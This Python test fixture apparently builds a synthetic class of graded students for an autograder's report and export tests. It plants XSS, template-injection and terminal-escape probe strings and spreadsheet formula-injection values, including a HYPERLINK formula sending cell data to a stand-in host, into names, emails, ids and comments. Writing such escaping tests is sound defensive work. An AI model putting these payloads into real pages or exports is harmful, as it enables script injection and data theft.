"""A class to show and to export: every status, overrides, late days, comments, and names that mean harm."""

from __future__ import annotations

from random import Random

from grader.model.classroom import (
    AlikePair,
    ClassExercise,
    ClassRecord,
    ClassRow,
    Excerpt,
    MistakeInfo,
)
from tests.report.sample import TITLES

ATTACK = "</script></style></title><b>bold</b><img src=x onerror=alert(1)>\"'>{{7*7}}\x1b[2J\u202e"
"""What a hostile text tries on a page."""
FORMULA = '=HYPERLINK("http://x.example/?"&A1,"open")'
LONG = "Wolfeschlegelsteinhausenbergerdorff" * 6

MISTAKES = (
    MistakeInfo(
        code="data-split-unseeded",
        title="The split is random, and no seed was in effect when it was made.",
        severity="warn",
    ),
    MistakeInfo(
        code="model-not-affine",
        title="The baseline bends, where a straight line was asked for.",
        severity="fail",
    ),
    MistakeInfo(
        code="loss-sigmoid-with-logits",
        title="Probabilities went into a loss that wants logits.",
        severity="fail",
    ),
    MistakeInfo(
        code="loop-no-zero-grad",
        title="Gradients of one step are still there at the next.",
        severity="fail",
    ),
    MistakeInfo(code="loop-no-eval-mode", title="The model is measured in training mode.", severity="part"),
    MistakeInfo(
        code="plot-not-labelled", title="A curve is drawn without a word on its axes.", severity="info"
    ),
    MistakeInfo(
        code="integrity-hardcoded",
        title="A result does not depend on the data or on the training.",
        severity="warn",
    ),
    MistakeInfo(code="run-error", title="A cell stopped with an error.", severity="info"),
)
_BY_EXERCISE = {
    2: "data-split-unseeded",
    3: "model-not-affine",
    4: "loss-sigmoid-with-logits",
    5: "loop-no-zero-grad",
    7: "loop-no-eval-mode",
    8: "plot-not-labelled",
}
_FIRST = (
    "Ana",
    "Björn",
    "Chidi",
    "Dilnoza",
    "Émile",
    "Farah",
    "Giulia",
    "Hồng",
    "Ivo",
    "Jūratė",
    "Kofi",
    "李",
)
_LAST = ("Abreu", "Bauer", "Çelik", "Dvořák", "Eze", "Fontaine", "García", "Haddad", "Ito", "Jansen", "Kaya")


def class_record(students: int = 24) -> ClassRecord:
    """The same class of `students` (14 or more) each time: fourteen special ones, the rest ordinary."""
    special = _special()
    ordinary = [_ordinary(number) for number in range(students - len(special))]
    rows = tuple(sorted([*special, *ordinary], key=lambda row: (row.name, row.key)))
    named = {code for row in rows for code in _codes(row)}
    return ClassRecord(
        assignment_id="pytorch-classification",
        assignment_title="Building classification models with PyTorch",
        assignment_version="1.0",
        grader="1.0",
        max_points=9.0,
        max_grade=10.0,
        titles=dict(enumerate(TITLES, start=1)),
        rows=rows,
        pairs=_pairs([row.key for row in ordinary]),
        mistakes=tuple(mistake for mistake in MISTAKES if mistake.code in named),
        remarks=(
            "`class.zip: readme.txt` was left aside: it is no submission.",
            "Zoë Quill is on the roster twice; the first line counts.",
            ATTACK,
        ),
    )


def exercise(number: int, points: float | None, **fields: object) -> ClassExercise:
    """Exercise `number` of one point; status and machine's points follow from `points`."""
    status = "not_graded" if points is None else {0.0: "failed", 1.0: "passed"}.get(points, "partial")
    values = {"number": number, "points": points, "machine_points": points, "max_points": 1.0}
    return ClassExercise.model_validate({**values, "status": status, **fields})


def row(key: str, name: str, exercises: tuple[ClassExercise, ...], **fields: object) -> ClassRow:
    """A graded student with a report, an attempt and ids of three platforms; the sums follow from `exercises`."""
    points, machine = (_sum(exercises, which) for which in ("points", "machine_points"))
    number = sum(map(ord, key))
    values: dict[str, object] = {
        "email": f"{key}@example.org",
        "ids": {"canvas": str(70_000 + number), "moodle": str(12_000 + number), "github": f"{key}-lab"},
        "status": "graded",
        "points": points,
        "machine_points": machine,
        "grade": None if points is None else round(1 + points, 6),
        "late_days": 0,
        "attempts": 1,
        "submission": f"{key}.ipynb",
        "shown": f"class.zip: {key}/lab.ipynb",
        "student_s": 8.0 + number % 90 / 10,
        "report": f"students/{key}.report.html",
    }
    whole = {"key": key, "name": name, "max_points": 9.0, "max_grade": 10.0, "exercises": exercises}
    return ClassRow.model_validate({**values, **whole, **fields})


def nothing(key: str, name: str, status: str, problem: str, **fields: object) -> ClassRow:
    """A student for whom there are no points."""
    empty: dict[str, object] = {
        "late_days": None,
        "attempts": 0,
        "submission": "",
        "shown": "",
        "report": None,
    }
    empty |= {"student_s": 0.0, "points": None, "machine_points": None, "grade": None}
    return row(key, name, (), **{**empty, "status": status, "problem": problem, **fields})


def _sum(exercises: tuple[ClassExercise, ...], which: str) -> float | None:
    known = [value for one in exercises if (value := getattr(one, which)) is not None]
    return round(sum(known), 6) if known else None


def _nine(*points: float | None, **changed: ClassExercise) -> tuple[ClassExercise, ...]:
    """Nine exercises; `ex5=…` takes the place of the fifth."""
    given = [*points, *[1.0] * (9 - len(points))]
    return tuple(changed.get(f"ex{n}") or exercise(n, value) for n, value in enumerate(given, start=1))


def _special() -> list[ClassRow]:
    raised = exercise(
        5, 1.0, machine_points=0.4, overridden=True, reason="The loop is right; the seed was unlucky.",
        status="partial", codes=("loop-no-eval-mode",),
    )  # fmt: skip
    disputed = exercise(
        3, 0.5, machine_points=1.0, overridden=True, conflict=True, status="passed",
        reason='Discussed in the lab, "half" <agreed>.',
    )  # fmt: skip
    cheating = exercise(9, 1.0, codes=("integrity-hardcoded",))
    crashed = exercise(1, 0.0, codes=("run-error",))
    attacked = exercise(
        2, 0.25, machine_points=0.0, overridden=True, reason=ATTACK, codes=("data-split-unseeded",)
    )
    return [
        row("raised", "Ada Overruled", _nine(1.0, 1.0, 0.5, ex5=raised), attempts=3,
            comments=("Come and see me about exercise 3.", "Well done otherwise.")),
        row("disputed", "Bea Disputed", _nine(ex3=disputed), late_days=1),
        row("review", "Cem Reviewed", _nine(ex9=cheating), needs_review=True, codes=("integrity-hardcoded",)),
        row("crashed", "Dag Crashed", _nine(0.0, 0.0, 0.0, 0.0, 0.0, 0.0, 0.0, 0.0, 0.0, ex1=crashed),
            needs_review=True, codes=("run-error",), late_days=12, student_s=241.6),
        row("stefan", 'Ștefan "Țepeș" Ionescu', _nine(1.0, 0.75),
            report='students/Ștefan "Țepeș" #1 100%?.report.html'),
        row("formula", FORMULA, _nine(0.5, 0.5), email="=1+1@example.org", ids={"canvas": "=2+3", "sis": "+41 79"}),
        row("attack", ATTACK, _nine(ex2=attacked), email=ATTACK, ids={"github": ATTACK}, submission=ATTACK,
            shown=ATTACK, comments=(ATTACK,), remarks=(ATTACK,), report="students/<b>&amp; onerror=1.report.html"),
        row("emoji", "👩🏽\u200d💻 Zoë 🦊", _nine(1.0, 1.0, 1.0, 1.0, 0.5), late_days=2,
            remarks=("Two notebooks were handed in; the later one counts.",)),
        row("long", f"Hubert {LONG}", _nine(0.5, 0.5, 0.5), report=f"students/{LONG[:150]}.report.html"),
        row("partly", "Eda Partly", _nine(1.0, 1.0, None, None), status="partly_graded"),
        nothing("ours", "Finn Unlucky", "not_graded", "The kernel could not be started: no space left on the disk.",
                submission="ours.ipynb", shown="class.zip: ours/lab.ipynb", attempts=1, late_days=0),
        nothing("broken", "Gus Unreadable", "refused", "`lab.ipynb` is no notebook: it holds no JSON.",
                shown="class.zip: broken/lab.ipynb"),
        nothing("absent", "Hal Missing", "missing", ""),
        nothing("nameless@example.org", "", "missing", "", email="nameless@example.org", ids={}),
    ]  # fmt: skip


def _ordinary(number: int) -> ClassRow:
    chance = Random(number)
    name = f"{_FIRST[number % len(_FIRST)]} {_LAST[number // len(_FIRST) % len(_LAST)]}"
    again = number // (len(_FIRST) * len(_LAST))
    exercises = tuple(_exercise_of(n, chance) for n in range(1, 10))
    late = max(0, int(chance.random() * 12) - 9)
    attempts = 1 + int(chance.random() * 1.4)
    seconds = round(7 + 20 * chance.random() ** 4, 2)
    return row(
        f"s{number:04}", f"{name} {again + 1}" if again else name, exercises,
        late_days=late, attempts=attempts, student_s=seconds, needs_review=chance.random() < 0.03,
    )  # fmt: skip


def _exercise_of(number: int, chance: Random) -> ClassExercise:
    luck = chance.random() - 0.03 * number
    if luck > 0.2:
        return exercise(number, 1.0)
    points = (0.0, 0.25, 0.4, 0.65)[int(chance.random() * 4)]
    code = _BY_EXERCISE.get(number)
    return exercise(number, points, codes=(code,) if code else ())


def _codes(row: ClassRow) -> set[str]:
    return {*row.codes, *(code for one in row.exercises for code in one.codes)}


def _pairs(keys: list[str]) -> tuple[AlikePair, ...]:
    """About one student in ten is like the next; a hostile pair is always among them."""
    loop = "for epoch in range(epochs):\n    net.train()\n    out = net(X_train).squeeze()\n    loss = crit(out, y)\n"
    other = loop.replace("net", "model").replace("out", "logits")
    hostile = AlikePair(
        first="attack", second="stefan", first_share=0.97, second_share=0.885, tokens=412,
        passages=((Excerpt(first_line=3, text=f"x = 1  # {ATTACK}\n"), Excerpt(first_line=9, text="y = 1\n")),),
    )  # fmt: skip
    usual = [
        AlikePair(
            first=first, second=second, first_share=0.8 - i * 0.004, second_share=0.7 - i * 0.004, tokens=300 - i,
            passages=((Excerpt(first_line=41, text=loop * 4), Excerpt(first_line=57, text=other * 4)),) * 2,
        )
        for i, (first, second) in enumerate(zip(keys[::10], keys[1::10], strict=False))
    ]  # fmt: skip
    return (hostile, *usual)
